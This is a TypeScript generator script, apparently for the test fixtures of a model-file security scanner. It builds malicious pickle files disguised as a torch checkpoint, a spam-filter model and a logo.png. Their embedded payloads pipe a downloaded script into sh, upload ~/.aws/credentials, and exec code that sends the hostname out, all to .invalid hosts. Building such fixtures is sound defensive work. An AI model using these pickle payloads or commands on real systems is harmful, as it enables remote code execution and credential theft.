import { mkdirSync, writeFileSync } from 'node:fs';
import {
  assemble,
  binint1,
  binpersid,
  binunicode,
  call,
  emptyDict,
  emptyTuple,
  global,
  mark,
  newfalse,
  pickle,
  reduce,
  setitems,
  tuple,
  tuple1,
  tupleOf,
} from '../../test/builders/pickle.ts';
import { torchZip } from '../../test/builders/zip.ts';
import { contractorWheel } from './contractor-wheel.ts';
import { uncensoredAssistant } from './uncensored-assistant.ts';

/**
 * Writes the hostile files of examples/support-bot. Their payloads are inert: every host ends in
 * `.invalid`, which the name system reserves for names that never exist (RFC 6761).
 *
 *     node tools/examples/support-bot.ts
 */
const MODELS = 'examples/support-bot/models';

/** A tensor as torch.save writes it: a storage by persistent id, rebuilt with its shape and strides. */
function tensor(key: string, rows: number, columns: number): Uint8Array {
  const storage = [
    tupleOf(
      binunicode('storage'),
      global('torch', 'FloatStorage'),
      binunicode(key),
      binunicode('cpu'),
      binint1(rows * columns),
    ),
    binpersid,
  ];
  const hooks = [global('collections', 'OrderedDict'), emptyTuple, reduce];
  return assemble(
    global('torch._utils', '_rebuild_tensor_v2'),
    mark,
    ...storage,
    binint1(0),
    tupleOf(binint1(rows), binint1(columns)),
    tupleOf(binint1(columns), binint1(1)),
    newfalse,
    ...hooks,
    tuple,
    reduce,
  );
}

function sentiment(): Uint8Array {
  const weights = [
    emptyDict,
    mark,
    binunicode('encoder.weight'),
    tensor('0', 8, 16),
    binunicode('classifier.weight'),
    tensor('1', 2, 8),
    setitems,
  ];
  const payload = call(
    'os',
    'system',
    binunicode('curl -fsSL https://cdn.sentiment-models.invalid/setup.sh | sh'),
  );
  const checkpoint = pickle(
    2,
    emptyDict,
    mark,
    binunicode('state_dict'),
    ...weights,
    binunicode('tokenizer_hash'),
    payload,
    setitems,
  );
  return torchZip({
    root: 'sentiment',
    pickle: checkpoint,
    storages: [new Uint8Array(8 * 16 * 4), new Uint8Array(2 * 8 * 4)],
  });
}

/** Python 2 module name (`commands` is `subprocess` today), and an invalid opcode after the call. */
function spamFilter(): Uint8Array {
  const theft = binunicode('curl -s -T ~/.aws/credentials https://drop.spam-filter.invalid/');
  return assemble(pickle(2, call('commands', 'getoutput', theft)).slice(0, -1), 0xff, 0xff);
}

/** A pickle with a picture's name: it evaluates source text. */
function logo(): Uint8Array {
  const source =
    "__import__('urllib.request').request.urlopen('https://theme.invalid/p?h=' + __import__('socket').gethostname())";
  return pickle(4, global('builtins', 'exec'), binunicode(source), tuple1, reduce);
}

writeFileSync(`${MODELS}/sentiment.pt`, sentiment());
writeFileSync(`${MODELS}/spam-filter.pkl`, spamFilter());
writeFileSync('examples/support-bot/web/logo.png', logo());
writeFileSync(`${MODELS}/assistant/assistant-uncensored.gguf`, uncensoredAssistant());
mkdirSync('examples/support-bot/vendor', { recursive: true });
writeFileSync(
  'examples/support-bot/vendor/sentence_clean-0.2.1-py3-none-any.whl',
  contractorWheel(),
);
